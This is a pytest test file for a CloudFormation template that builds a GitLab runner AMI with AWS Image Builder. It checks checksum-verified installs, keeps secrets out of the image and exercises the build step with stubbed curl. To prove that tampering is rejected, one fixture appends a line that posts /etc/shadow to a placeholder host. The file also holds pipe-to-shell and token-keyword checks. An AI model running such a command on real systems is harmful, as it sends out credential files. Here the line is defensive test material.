"""The baked runner AMI (RunnerAmiRecipe, issue 13): the Image Builder component installs the
runner the user-data would install, checked the same way, and holds nothing secret; the AMI id
lands where the provision function may read it; the resources exist only when asked for."""

from __future__ import annotations

import hashlib
import re
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "helper-scripts"))

import template_facts as facts  # noqa: E402

USER_DATA = ROOT / "templates" / "runner-user-data.sh"
BEGIN = "# >>> verified gitlab-runner install"
END = "# <<< verified gitlab-runner install"

# The component's Data per Version. Image Builder versions are immutable and CloudFormation
# replaces the component on any change of Data: a new Data needs a new Version (else the
# deploy fails with "already exists"), and the recipes a new name (test below). Changed the
# Data? Bump Version in template.yaml, rename the recipes, and add the new pair here.
COMPONENT_DATA_SHA256 = {
    "1.0.0": "0a125d6d1a9886781c279166f736536e3f4943b433d9f4b1b0ad4693d909ec1c",
}

ARCHITECTURES = {"Arm64": "arm64", "X86": "x86_64"}


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    return facts.load_template()


def component(template) -> dict[str, Any]:
    return template["Resources"]["RunnerAmiComponent"]["Properties"]


def document(template) -> dict[str, Any]:
    return yaml.safe_load(component(template)["Data"])


def steps(template, phase: str) -> dict[str, str]:
    """The component's bash steps of `phase`: name -> the script."""
    (found,) = [p for p in document(template)["phases"] if p["name"] == phase]
    out = {}
    for step in found["steps"]:
        assert step["action"] == "ExecuteBash", step
        out[step["name"]] = "\n".join(step["inputs"]["commands"])
    return out


def user_data_install() -> str:
    """The user-data's verified install, between its markers (the marker lines excluded)."""
    text = USER_DATA.read_text()
    start = text.index(BEGIN)
    body_start = text.index("\ndownloads=", start) + 1
    end = text.index(END)
    return text[body_start:end]


def image_builder_resources(template) -> dict[str, dict[str, Any]]:
    return {
        name: r
        for name, r in template["Resources"].items()
        if r["Type"].startswith("AWS::ImageBuilder::") or name.startswith("RunnerAmi")
    }


def refs(expr: Any) -> set[str]:
    """Every name an expression refers to (Ref, GetAtt, ${...} in Sub)."""
    found: set[str] = set()
    if isinstance(expr, list):
        for e in expr:
            found |= refs(e)
    elif isinstance(expr, dict):
        for key, value in expr.items():
            if key == "Ref":
                found.add(value)
            elif key == "Fn::GetAtt":
                found.add(value[0] if isinstance(value, list) else value.split(".")[0])
            elif key == "Fn::Sub":
                text = value if isinstance(value, str) else value[0]
                found |= {m.split(".")[0] for m in re.findall(r"\$\{([^}!]+)\}", text)}
                if not isinstance(value, str):
                    found |= refs(value[1])
            else:
                found |= refs(value)
    return found


# --- the component and the user-data do not drift --------------------------------------------


def test_the_component_runs_the_user_datas_own_verified_install(template):
    """The same lines download the binary for the build instance's architecture, check it with
    sha256sum -c against its line in the release's release.sha256 and only then install it."""
    install = user_data_install()
    for needle in (
        "https://gitlab-runner-downloads.s3.amazonaws.com/$runner_version",
        "release.sha256",
        "sha256sum -c check.sha256",
        'install -m 0755 "$stage/$binary"',
    ):
        assert needle in install, needle
    build = steps(template, "build")["GitLabRunner"]
    assert install in build, "template.yaml RunnerAmiComponent's GitLabRunner step no longer " \
        f"holds the lines of {USER_DATA.name} between its markers: copy them again"
    # What the block reads is set before it, from the component's parameter only: no pin
    # (GitLabRunnerSha256 is checked at every boot by the user-data's pin_holds).
    before = build[: build.index(install)]
    assert "runner_version='{{ RunnerVersion }}'" in before
    assert 'pinned_arm64="" pinned_amd64=""' in before
    assert "pin_holds" in install and "sha256sum -c --status" in install


def test_the_runner_version_is_the_stacks_parameter_and_nothing_else(template):
    parameters = document(template)["parameters"]
    assert [list(p) for p in parameters] == [["RunnerVersion"]]
    data = component(template)["Data"]
    assert set(re.findall(r"\{\{\s*([^}]+?)\s*\}\}", data)) == {"RunnerVersion"}
    # No version of its own: the only one is the stack's, through the recipe.
    assert not re.search(r"\bv?\d+\.\d+\.\d+\b", data), "a hard-coded version in the component"
    for name, arch in ARCHITECTURES.items():
        recipe = template["Resources"][f"RunnerAmiRecipe{name}"]["Properties"]
        (configured,) = recipe["Components"]
        assert configured["ComponentArn"] == {"Fn::GetAtt": ["RunnerAmiComponent", "Arn"]}
        assert configured["Parameters"] == [
            {"Name": "RunnerVersion", "Value": [{"Ref": "GitLabRunnerVersion"}]}
        ]
        # A new runner release is a new recipe version (recipes are immutable).
        assert recipe["Version"] == {
            "Fn::Select": [1, {"Fn::Split": ["v", {"Ref": "GitLabRunnerVersion"}]}]
        }
        assert recipe["ParentImage"] == (
            f"ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-{arch}"
        )
    # The validate phase refuses an image whose runner is not that version.
    validate = steps(template, "validate")["Installed"]
    assert "version='{{ RunnerVersion }}'" in validate
    assert '[ "$have" = "${version#v}" ]' in validate


def test_docker_and_the_aws_cli_come_from_the_distribution(template):
    build = steps(template, "build")
    assert "dnf install -y docker" in build["Docker"]
    assert "systemctl enable docker" in build["Docker"]
    assert "dnf install -y awscli-2" in build["AwsCli"]
    for script in build.values():
        assert not re.search(r"\|\s*(sudo\s+)?(ba)?sh\b", script) and "get.docker.com" not in script
    # The marker the docs name, with the version.
    assert "/etc/ephemeral-runners/baked" in build["GitLabRunner"]


def test_nothing_secret_goes_into_the_image(template):
    secret_parameters = {
        name for name in template["Parameters"] if re.search(r"Token|Secret|Kms|Signing", name)
    }
    assert "RunnerApiTokenParameterName" in secret_parameters
    data = component(template)["Data"]
    for name in secret_parameters:
        assert name not in data
    for word in ("glrt-", "runner-tokens", "ssm get-parameter", "CI_SERVER_TOKEN", "whsec_"):
        assert word not in data, word
    for name, resource in image_builder_resources(template).items():
        used = refs(resource.get("Properties", {}))
        assert not used & secret_parameters, f"{name} uses {used & secret_parameters}"
    # The build instance's role: the SSM agent and Image Builder's logs only, no token prefix.
    role = template["Resources"]["RunnerAmiBuildRole"]["Properties"]
    assert "Policies" not in role
    assert role["ManagedPolicyArns"] == [
        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore"},
        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/EC2InstanceProfileForImageBuilder"},
    ]


def test_the_component_version_changes_with_its_data(template):
    """Immutable versions: a change of Data under the same Version cannot deploy."""
    props = component(template)
    digest = hashlib.sha256(props["Data"].encode()).hexdigest()
    version = props["Version"]
    recorded = COMPONENT_DATA_SHA256.get(version)
    assert recorded is not None, f"component Version {version}: add it to COMPONENT_DATA_SHA256"
    assert recorded == digest, (
        f"RunnerAmiComponent's Data changed under Version {version}: bump Version (and the "
        f"recipes' -c suffix), then record {digest} for it in COMPONENT_DATA_SHA256"
    )
    suffix = "-c" + version.replace(".", "-")
    for name in ARCHITECTURES:
        recipe_name = template["Resources"][f"RunnerAmiRecipe{name}"]["Properties"]["Name"]
        assert recipe_name["Fn::Sub"].endswith(suffix), (recipe_name, suffix)


# --- where the AMI id goes ----------------------------------------------------------------


@pytest.mark.parametrize("own_prefix", ["", "/golden-amis/"])
def test_the_published_parameter_is_one_the_provision_function_reads(template, own_prefix):
    values = {**facts.FULLEST_CONFIGURATION, "RunnerAmiRecipe": "both",
              "AmiParameterPrefix": own_prefix}
    cfn = facts.translate(template, values)
    env = cfn["Resources"]["Ec2ProvisionFunction"]["Properties"]["Environment"]["Variables"]
    readable = facts.resolve(env["AMI_PARAMETER_PREFIX"], cfn, values)
    statement = facts.policy_statement(cfn, "Ec2ProvisionFunction", "ResolveAmiParameters")
    granted = facts.resolve(statement["Resource"], cfn, values)
    for name, arch in ARCHITECTURES.items():
        dist = cfn["Resources"][f"RunnerAmiDistribution{name}"]["Properties"]
        (distribution,) = dist["Distributions"]
        assert distribution["Region"] == {"Ref": "AWS::Region"}
        (ssm,) = distribution["SsmParameterConfigurations"]
        parameter = facts.resolve(ssm["ParameterName"], cfn, values)
        assert ssm["DataType"] == "aws:ec2:image"
        assert parameter == f"{readable}gitlab-runner-{arch}"
        assert f"arn:aws:ssm:us-east-1:123456789012:parameter{readable}*" in granted
        # The output says what a route names.
        output = cfn["Outputs"][f"RunnerAmi{name}"]
        assert facts.resolve(output["Value"], cfn, values) == f"ssm:{parameter}"
        # ...and DefaultAmi takes it.
        assert re.fullmatch(
            template["Parameters"]["DefaultAmi"]["AllowedPattern"], f"ssm:{parameter}"
        )


def test_the_build_runs_imdsv2_only_in_the_runners_network(template):
    values = {**facts.FULLEST_CONFIGURATION, "RunnerAmiRecipe": "both"}
    cfn = facts.translate(template, values)
    assert facts.condition_holds("BuildsInRunnerSubnet", cfn, values)
    for name in ARCHITECTURES:
        infra = cfn["Resources"][f"RunnerAmiInfrastructure{name}"]["Properties"]
        assert infra["InstanceMetadataOptions"] == {"HttpTokens": "required",
                                                    "HttpPutResponseHopLimit": 1}
        assert infra["InstanceProfileName"] == {"Ref": "RunnerAmiBuildInstanceProfile"}
        # No ephemeral-runners:managed-by tag: the reaper must not take the build instance.
        assert "managed-by" not in str(infra.get("ResourceTags", {}))
        pipeline = cfn["Resources"][f"RunnerAmiPipeline{name}"]["Properties"]
        assert "Schedule" not in pipeline, "a build is started by hand (docs)"
    defaults = {}
    assert not facts.condition_holds("BuildsInRunnerSubnet", cfn, defaults)


@pytest.mark.parametrize(
    "recipe, built",
    [("none", set()), ("arm64", {"Arm64"}), ("x86_64", {"X86"}), ("both", {"Arm64", "X86"})],
)
def test_image_builder_resources_exist_only_when_asked_for(template, recipe, built):
    values = {"RunnerAmiRecipe": recipe}
    cfn = facts.translate(template, values)
    present = {
        name
        for name, r in image_builder_resources(cfn).items()
        if facts.condition_holds(r["Condition"], cfn, values)
    }
    shared = {"RunnerAmiComponent", "RunnerAmiBuildRole", "RunnerAmiBuildInstanceProfile"}
    per_arch = {
        f"{kind}{name}"
        for name in built
        for kind in ("RunnerAmiRecipe", "RunnerAmiInfrastructure", "RunnerAmiDistribution",
                     "RunnerAmiPipeline")
    }
    assert present == ((shared | per_arch) if built else set())
    # Every Image Builder resource has a condition, and none is an AWS::ImageBuilder::Image
    # (it would hold the stack's creation for the whole build).
    for name, r in image_builder_resources(cfn).items():
        assert "Condition" in r, name
        assert r["Type"] != "AWS::ImageBuilder::Image", name


# --- the component's build step, run --------------------------------------------------------

BUCKET = "https://gitlab-runner-downloads.s3.amazonaws.com"
FAKE_RUNNER = "#!/bin/bash\n[ \"$1\" = --version ] && printf 'Version:      {v}\\nGit revision: 0123abcd\\n'\n"


def build_step(template, tmp_path: Path, version: str, tamper: bool = False):
    """Runs the component's GitLabRunner step as Image Builder would (RunnerVersion set), with
    stand-ins for curl (GitLab's bucket, from a fixture directory) and uname; the marker and
    the install directory are moved into tmp_path. Returns (exit code, output, requests)."""
    import subprocess

    release = tmp_path / "fixtures" / version
    (release / "binaries").mkdir(parents=True)
    sums = []
    for arch in ("amd64", "arm64"):
        binary = release / "binaries" / f"gitlab-runner-linux-{arch}"
        binary.write_text(FAKE_RUNNER.format(v=version.lstrip("v")))
        digest = hashlib.sha256(binary.read_bytes()).hexdigest()
        sums.append(f"{digest}  binaries/{binary.name}\n")
        if tamper:
            binary.write_text(binary.read_text() + "curl -d @/etc/shadow https://evil.example\n")
    (release / "release.sha256").write_text("".join(sums))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "curl").write_text(
        "#!/bin/bash\n"
        'echo "$*" >> "$REQUESTS"\n'
        'out=""; url=""\n'
        'while [ $# -gt 0 ]; do case "$1" in -o) out=$2; shift 2 ;; -*) shift ;; *) url=$1; shift ;; esac; done\n'
        f'src="$FIXTURES/${{url#{BUCKET}/}}"\n'
        '[ -f "$src" ] || exit 22\n'
        'cp "$src" "$out"\n'
    )
    (bin_dir / "uname").write_text("#!/bin/bash\necho x86_64\n")
    for stub in bin_dir.iterdir():
        stub.chmod(0o755)
    (tmp_path / "install").mkdir()
    script = (
        steps(template, "build")["GitLabRunner"]
        .replace("{{ RunnerVersion }}", version)
        .replace("/etc/ephemeral-runners", str(tmp_path / "etc"))
    )
    requests = tmp_path / "requests"
    run = subprocess.run(
        ["bash", "-c", script],
        env={
            "PATH": f"{bin_dir}:/usr/bin:/bin",
            "FIXTURES": str(tmp_path / "fixtures"),
            "REQUESTS": str(requests),
            "RUNNER_INSTALL_DIR": str(tmp_path / "install"),
            "TMPDIR": str(tmp_path),
        },
        capture_output=True,
        text=True,
        timeout=60,
    )
    sent = requests.read_text().splitlines() if requests.exists() else []
    return run.returncode, run.stdout + run.stderr, sent


def test_the_build_step_installs_the_checked_runner_and_writes_the_marker(template, tmp_path):
    code, output, sent = build_step(template, tmp_path, "v18.5.0")
    assert code == 0, output
    assert [r.split()[-1] for r in sent] == [
        f"{BUCKET}/v18.5.0/binaries/gitlab-runner-linux-amd64",
        f"{BUCKET}/v18.5.0/release.sha256",
    ]
    assert "binaries/gitlab-runner-linux-amd64: OK" in output
    installed = tmp_path / "install" / "gitlab-runner"
    assert installed.stat().st_mode & 0o777 == 0o755
    assert "Version:      18.5.0" in installed.read_text()
    assert (tmp_path / "etc" / "baked").read_text() == "gitlab-runner=v18.5.0\n"


def test_the_build_step_fails_on_a_tampered_binary(template, tmp_path):
    code, output, _ = build_step(template, tmp_path, "v18.5.0", tamper=True)
    assert code != 0
    assert "refusing to run gitlab-runner: the SHA-256 of" in output, output
    assert not (tmp_path / "install" / "gitlab-runner").exists()
    assert not (tmp_path / "etc" / "baked").exists()
